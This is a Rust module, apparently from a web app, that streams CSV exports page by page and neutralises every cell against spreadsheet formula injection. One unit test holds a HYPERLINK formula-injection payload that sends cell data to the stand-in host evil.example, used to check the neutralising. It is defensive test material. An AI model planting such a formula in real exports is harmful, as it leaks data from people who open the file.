//! The one CSV writer every download goes through, and the exports themselves (one file
//! each: its columns and how it reads its rows).
//!
//! Written once so that every file is the same kind of file: UTF-8 with a header row, dates
//! in ISO 8601 (UTC), amounts as minor units beside the exact decimal, a dated file name,
//! and every cell passed through [`neutralise`] so a spreadsheet never runs one as a
//! formula. An export cannot skip any of this: it only says what its rows are.
//!
//! A list may hold a million registrations, so an export never loads all of them: the
//! writer reads a page at a time by keyset (each on a connection of its own, given back
//! before the page is sent) and streams each page as it is encoded. The pages are not one
//! snapshot: a row changed while the file downloads may be missed or written twice, as when
//! paging through the list on screen.

mod acknowledgements;
mod audit;
mod credits;
mod dashboard;
mod disputes;
mod orgs;
mod registrations;
mod review_queue;
mod roe_knowledge;
mod users;

pub use acknowledgements::Acknowledgements;
pub use audit::AuditEvents;
pub use credits::Credits;
pub use dashboard::DashboardWeeks;
pub use disputes::Disputes;
pub use orgs::Orgs;
pub use registrations::Registrations;
pub use review_queue::ReviewQueue;
pub use roe_knowledge::RoeKnowledge;
pub use users::Users;

use std::sync::Arc;

use actix_web::HttpResponse;
use actix_web::http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use actix_web::web::Bytes;
use chrono::{NaiveDate, NaiveDateTime};
use diesel::QueryResult;
use futures_util::{StreamExt, stream};

use crate::db::{self, DbConnection, Pool};
use crate::domain::dates::{iso_day, iso_utc};
use crate::domain::spreadsheet::neutralise;
use crate::error::AppError;
use crate::state::AppState;

/// Rows read and encoded per database round trip: about what an export holds in memory.
const PAGE: usize = 500;

/// One CSV export: its header, how to read a page of its rows in a stable order, where the
/// next page starts, and each row as cells.
pub trait Export: Send + Sync + 'static {
    /// A row as read, with whatever the page looked up beside it.
    type Row: Send + 'static;
    /// The sort key of a row, from which the next page continues (keyset).
    type Cursor: Send + 'static;

    /// The column names, in order; every record has exactly these cells.
    const HEADER: &'static [&'static str];

    /// The file name before its date: "registrations" gives `registrations-2026-03-03.csv`.
    fn file_stem(&self) -> &'static str;

    /// Up to `limit` rows after `after` (from the start when `None`), in the export's order.
    fn page(
        &self,
        conn: &mut DbConnection,
        after: Option<&Self::Cursor>,
        limit: i64,
    ) -> QueryResult<Vec<Self::Row>>;

    /// Where the page after `row` starts; `None` ends the file there.
    fn cursor(&self, row: &Self::Row) -> Option<Self::Cursor>;

    /// The row's cells as people and programs read them (see [`utc`], [`day`], [`number`]).
    fn record(&self, row: &Self::Row) -> Vec<String>;
}

/// The export as a download. The first page is read before the response starts, so a
/// failure there is an error page; a failure on a later page is logged and ends the
/// download unfinished, which the browser reports, rather than a file that looks complete.
pub async fn download<E: Export>(state: &AppState, export: E) -> Result<HttpResponse, AppError> {
    let file_name = format!(
        "{}-{}.csv",
        export.file_stem(),
        iso_day(state.clock.naive_now().date())
    );
    let export = Arc::new(export);
    let pool = state.pool.clone();
    let (first, after) = read(&pool, export.clone(), None).await?;
    let rest = stream::try_unfold(
        Rest {
            export,
            pool,
            after,
        },
        |rest| async move {
            let Some(after) = rest.after else {
                return Ok(None);
            };
            let (bytes, next) = read(&rest.pool, rest.export.clone(), Some(after))
                .await
                .inspect_err(|e| {
                    tracing::error!(export = rest.export.file_stem(), error = ?e, "export stopped part way");
                })?;
            Ok(Some((
                bytes,
                Rest {
                    after: next,
                    ..rest
                },
            )))
        },
    );
    Ok(HttpResponse::Ok()
        .insert_header((CONTENT_TYPE, "text/csv; charset=utf-8"))
        .insert_header((
            CONTENT_DISPOSITION,
            format!("attachment; filename=\"{file_name}\""),
        ))
        .streaming(stream::once(async { Ok::<_, AppError>(first) }).chain(rest)))
}

/// What is left to send of a download.
struct Rest<E: Export> {
    export: Arc<E>,
    pool: Pool,
    after: Option<E::Cursor>,
}

/// One page, encoded (with the header row when it is the first), and where the next one
/// starts. A page shorter than [`PAGE`] is the last.
async fn read<E: Export>(
    pool: &Pool,
    export: Arc<E>,
    after: Option<E::Cursor>,
) -> Result<(Bytes, Option<E::Cursor>), AppError> {
    db::run(pool, move |conn| {
        let first = after.is_none();
        let rows = export.page(conn, after.as_ref(), PAGE as i64)?;
        let next = if rows.len() < PAGE {
            None
        } else {
            rows.last().and_then(|r| export.cursor(r))
        };
        let header = first.then(|| E::HEADER.iter().map(|h| (*h).to_owned()).collect());
        let bytes = encode(
            E::HEADER.len(),
            header
                .into_iter()
                .chain(rows.iter().map(|r| export.record(r))),
        )?;
        Ok((bytes, next))
    })
    .await
}

/// Records as CSV, each cell neutralised; a record of the wrong width is a bug, refused
/// rather than written shifted under the wrong columns.
fn encode(width: usize, records: impl Iterator<Item = Vec<String>>) -> Result<Bytes, AppError> {
    let fail = |e: csv::Error| AppError::internal(anyhow::Error::new(e));
    let mut w = csv::Writer::from_writer(Vec::new());
    for record in records {
        if record.len() != width {
            return Err(AppError::internal(anyhow::anyhow!(
                "an export record has {} cells for {width} columns",
                record.len()
            )));
        }
        for cell in &record {
            w.write_field(neutralise(cell).as_bytes()).map_err(fail)?;
        }
        w.write_record(None::<&[u8]>).map_err(fail)?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| AppError::internal(anyhow::anyhow!("csv: {e}")))?;
    Ok(Bytes::from(bytes))
}

/// A moment as files other programs read it ("2026-03-03T14:05:00Z"), or an empty cell.
pub fn utc(at: Option<NaiveDateTime>) -> String {
    at.map(iso_utc).unwrap_or_default()
}

/// A day ("2026-03-03"), or an empty cell.
pub fn day(d: Option<NaiveDate>) -> String {
    d.map(iso_day).unwrap_or_default()
}

/// A number, or an empty cell.
pub fn number(n: Option<impl ToString>) -> String {
    n.map(|n| n.to_string()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(records: Vec<Vec<&str>>) -> String {
        let width = records[0].len();
        let bytes = encode(
            width,
            records
                .into_iter()
                .map(|r| r.into_iter().map(str::to_owned).collect()),
        )
        .unwrap();
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    #[test]
    fn every_cell_is_neutralised_and_quoted_where_csv_needs_it() {
        assert_eq!(
            text(vec![
                vec!["prospect", "amount"],
                vec![
                    r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
                    "10.00"
                ],
                vec!["Acme, Inc.", "-1"],
            ]),
            "prospect,amount\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",10.00\n\"Acme, Inc.\",'-1\n"
        );
    }

    #[test]
    fn a_record_of_the_wrong_width_is_refused() {
        let records = vec![
            vec!["a".to_owned(), "b".to_owned()],
            vec!["only one".to_owned()],
        ];
        assert!(encode(2, records.into_iter()).is_err());
    }
}
